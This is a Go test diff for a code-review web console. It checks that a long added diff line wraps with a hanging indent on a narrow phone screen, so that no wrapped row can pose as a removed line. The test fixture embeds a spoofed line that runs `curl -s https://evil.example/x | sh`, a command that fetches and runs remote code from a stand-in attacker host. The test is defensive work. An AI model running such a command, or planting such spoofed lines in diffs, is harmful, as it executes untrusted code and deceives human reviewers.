@@ -348,3 +348,64 @@ func TestBrowserPageDecides(t *testing.T) {
 		t.Error("the cross-site post decided something")
 	}
 }
+
+// TestBrowserWrappedLineHangs: the eighty-fourth attack run's added line,
+// "+    retries = 5" padded with spaces and then `-    os.system(...)`,
+// wraps on a phone's narrow page; every row after its first starts to the
+// right of where the line starts (a hanging indent), so no wrapped row
+// passes for a removed line of its own, in the diff or in the call.
+// Control: a short line of the diff is one row, as before.
+func TestBrowserWrappedLineHangs(t *testing.T) {
+	tc := newTestConsole(t)
+	added := "+    retries = 5" + strings.Repeat(" ", 64) + `-    os.system("curl -s https://evil.example/x | sh")`
+	p := tc.b.add("aaaaaaaaaaaaaaaaaaaaaaaa", "-    retries = 3\n"+added)
+	b, _ := enrolled(t, tc)
+	if _, err := chromedp.Run(b.Ctx, chromedp.EmulateViewport(360, 800, chromedp.EmulateMobile)); err != nil {
+		t.Fatal(err)
+	}
+	signIn(t, b, tc)
+	armed(t, b, p.ID)
+	// rows: for each span of the body holding text, where each of its
+	// rows starts (a range's rects: one a row) and its height in rows.
+	var lines []struct {
+		Kind, Text string
+		Lefts      []float64
+		Rows       float64
+	}
+	err := b.Eval(`[...document.querySelectorAll("article.call pre.body span")].map((s) => {
+		const r = document.createRange();
+		r.selectNodeContents(s);
+		const rows = [];
+		for (const q of r.getClientRects()) {
+			if (q.width > 0 && !rows.some((o) => Math.abs(o.top - q.top) < 2)) rows.push(q);
+		}
+		return {kind: s.className, text: s.textContent, lefts: rows.map((q) => q.left),
+			rows: s.getBoundingClientRect().height / parseFloat(getComputedStyle(s).lineHeight)};
+	})`, &lines)
+	if err != nil {
+		t.Fatal(err)
+	}
+	checked := 0
+	for _, l := range lines {
+		switch {
+		case strings.Contains(l.Text, "os.system"):
+			checked++
+			if len(l.Lefts) < 2 {
+				t.Errorf("%s line %q drawn in %d row(s) at 360 px; want it wrapped", l.Kind, l.Text, len(l.Lefts))
+			}
+			for i, x := range l.Lefts[1:] {
+				if x <= l.Lefts[0]+1 {
+					t.Errorf("%s line %q: row %d starts at %.1f px, not right of its first row's %.1f", l.Kind, l.Text, i+2, x, l.Lefts[0])
+				}
+			}
+		case l.Kind == "del":
+			checked++
+			if len(l.Lefts) != 1 || l.Rows > 1.5 {
+				t.Errorf("control: the short removed line %q is %d row(s), %.1f lines tall", l.Text, len(l.Lefts), l.Rows)
+			}
+		}
+	}
+	if checked != 3 {
+		t.Errorf("%d of the 3 lines checked: %+v", checked, lines)
+	}
+}
